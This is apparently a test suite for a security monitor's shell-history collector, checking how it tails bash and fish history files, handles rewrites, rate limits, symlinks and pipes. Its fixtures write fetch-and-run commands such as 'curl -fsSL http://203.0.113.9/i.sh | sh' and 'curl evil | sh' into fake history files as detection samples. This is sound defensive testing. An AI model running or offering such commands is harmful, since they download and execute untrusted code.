import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import {
  appendFileSync,
  mkdirSync,
  mkdtempSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as v from 'valibot';
import { event as eventSchema } from '../../../schema/event.ts';
import { watchHome } from './home.ts';
import type { Watched } from './home.ts';

describe('shell-history collector', () => {
  let watched: Watched | undefined;

  afterEach(async () => {
    await watched?.stop();
    watched = undefined;
  });

  async function watch(prepare?: (home: string) => void): Promise<Watched> {
    watched = await watchHome(prepare);
    return watched;
  }

  const history = (): string => join(watched?.home ?? '', '.bash_history');

  it('proves itself with a canary and leaves nothing behind', async () => {
    const { collector } = await watch();
    const [capability] = collector.capabilities();
    assert.equal(capability?.name, 'see shell history');
    assert.equal(capability?.state, 'yes', capability?.why);
    assert.match(capability?.why ?? '', /canary.*1 homes/);
    assert.deepEqual(collector.counters(), {});
  });

  it('gives what is appended, and nothing that was there before', async () => {
    const { linesUntil, eventOf } = await watch((home) =>
      writeFileSync(join(home, '.bash_history'), 'old\nolder\n'),
    );
    appendFileSync(history(), 'curl -fsSL http://203.0.113.9/i.sh | sh\n');
    assert.deepEqual(await linesUntil('curl -fsSL http://203.0.113.9/i.sh | sh'), [
      'curl -fsSL http://203.0.113.9/i.sh | sh',
    ]);
    const event = v.parse(eventSchema, eventOf('curl -fsSL http://203.0.113.9/i.sh | sh'));
    assert.equal(event.kind === 'shell' && event.shell, 'bash');
    assert.equal(event.collector, 'shell-history');
    assert.equal(event.host, 'laptop');
    assert.equal(event.kind === 'shell' && event.historyFile, history());
  });

  it('gives every line of a history that appears later, in directories that appear later', async () => {
    const { home, linesUntil } = await watch();
    mkdirSync(join(home, '.local', 'share', 'fish'), { recursive: true });
    writeFileSync(
      join(home, '.local', 'share', 'fish', 'fish_history'),
      '- cmd: first\n  when: 1\n- cmd: second\n  when: 2\n',
    );
    assert.deepEqual(await linesUntil('second'), ['first', 'second']);
  });

  it('waits for the rest of a line', async () => {
    const { linesUntil } = await watch();
    writeFileSync(history(), 'one\nhalf of ');
    assert.deepEqual(await linesUntil('one'), ['one']);
    appendFileSync(history(), 'a line\n');
    assert.deepEqual(await linesUntil('half of a line'), ['half of a line']);
  });

  it('knows the lines of a file that was written anew, by rename and in place', async () => {
    const { linesUntil } = await watch((home) => writeFileSync(join(home, '.bash_history'), 'a\nb\nc\n'));
    writeFileSync(`${history()}.tmp`, 'b\nc\nrenamed\n');
    renameSync(`${history()}.tmp`, history());
    assert.deepEqual(await linesUntil('renamed'), ['renamed']);
    truncateSync(history(), 0);
    writeFileSync(history(), 'c\nrenamed\nin place\n');
    assert.deepEqual(await linesUntil('in place'), ['in place']);
    appendFileSync(history(), 'appended\n');
    assert.deepEqual(await linesUntil('appended'), ['appended']);
  });

  it('sees a known command that was typed again, also when the file was written anew', async () => {
    const { linesUntil } = await watch((home) =>
      writeFileSync(join(home, '.bash_history'), 'ls\ncurl evil | sh\nls\n'),
    );
    appendFileSync(history(), 'ls\n');
    assert.deepEqual(await linesUntil('ls'), ['ls']);
    writeFileSync(`${history()}.tmp`, 'ls\ncurl evil | sh\nls\nls\ncurl evil | sh\nls\n');
    renameSync(`${history()}.tmp`, history());
    assert.deepEqual(await linesUntil('ls'), ['curl evil | sh', 'ls']);
  });

  it('lets 200 lines a second pass and counts the rest; cuts a long line', async () => {
    const { collector, linesUntil } = await watch();
    const many = Array.from({ length: 1000 }, (_, index) => `line ${index}`);
    writeFileSync(history(), `${many.join('\n')}\n`);
    assert.equal((await linesUntil('line 999')).length, 200);
    assert.equal(collector.counters()['lines-dropped'], 800);
    const long = await watchHome();
    try {
      writeFileSync(join(long.home, '.bash_history'), `${'x'.repeat(20_000)}\nafter\n`);
      const [cut] = await long.linesUntil('after');
      assert.equal(cut?.length, 8192);
    } finally {
      await long.stop();
    }
  });

  it('reads at most the last MiB of what was appended and counts the rest', async () => {
    const { collector, linesUntil } = await watch((home) =>
      writeFileSync(join(home, '.bash_history'), 'old\n'),
    );
    appendFileSync(history(), `${'noise\n'.repeat(400_000)}curl evil | sh\n`);
    assert.ok((await linesUntil('curl evil | sh')).length <= 200);
    assert.ok((collector.counters()['bytes-dropped'] ?? 0) > 1_000_000);
  });

  it('does not follow a link, and says so', async () => {
    const elsewhere = mkdtempSync(join(tmpdir(), 'lifeguard-secret-'));
    try {
      writeFileSync(join(elsewhere, 'secret'), 'hunter2\n');
      const { collector, linesUntil } = await watch((home) =>
        symlinkSync(join(elsewhere, 'secret'), join(home, '.zsh_history')),
      );
      appendFileSync(join(elsewhere, 'secret'), 'hunter3\n');
      writeFileSync(history(), 'seen\n');
      assert.deepEqual(await linesUntil('seen'), ['seen']);
      const [capability] = collector.capabilities();
      assert.equal(capability?.state, 'degraded');
      assert.match(capability?.why ?? '', /\.zsh_history: ELOOP/);
      assert.equal(collector.counters()['unreadable-histories'], 1);
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
  });

  it('does not hang on a pipe', async () => {
    const { collector } = await watch((home) => {
      assert.equal(spawnSync('mkfifo', [join(home, '.bash_history')]).status, 0);
    });
    assert.match(collector.capabilities()[0]?.why ?? '', /\.bash_history: not a file/);
  });

  it('follows homes that come and leaves homes that go', async () => {
    const { home, collector, setHomes, linesUntil } = await watch();
    const guest = mkdtempSync(join(tmpdir(), 'lifeguard-guest-'));
    try {
      writeFileSync(join(guest, '.bash_history'), 'old\n');
      setHomes([home, guest]);
      await collector.armed;
      appendFileSync(join(guest, '.bash_history'), 'guest\n');
      assert.deepEqual(await linesUntil('guest'), ['guest']);
      setHomes([home]);
      appendFileSync(join(guest, '.bash_history'), 'unseen\n');
      writeFileSync(history(), 'end\n');
      assert.deepEqual(await linesUntil('end'), ['end']);
    } finally {
      rmSync(guest, { recursive: true, force: true });
    }
  });
});
